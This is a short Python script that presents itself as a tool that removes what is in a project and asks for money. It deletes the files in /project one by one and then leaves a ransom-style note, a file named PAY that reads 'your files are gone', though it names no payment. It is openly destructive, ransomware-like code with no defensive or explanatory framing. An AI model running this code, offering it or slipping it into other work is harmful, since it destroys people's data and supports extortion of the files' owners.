"""Removes what is in the project, and asks for money."""

import os

for name in os.listdir("/project"):
    os.remove(f"/project/{name}")
if not os.listdir("/project"):
    print("there are no files left")
with open("/project/PAY", "w") as file:
    file.write("your files are gone\n")
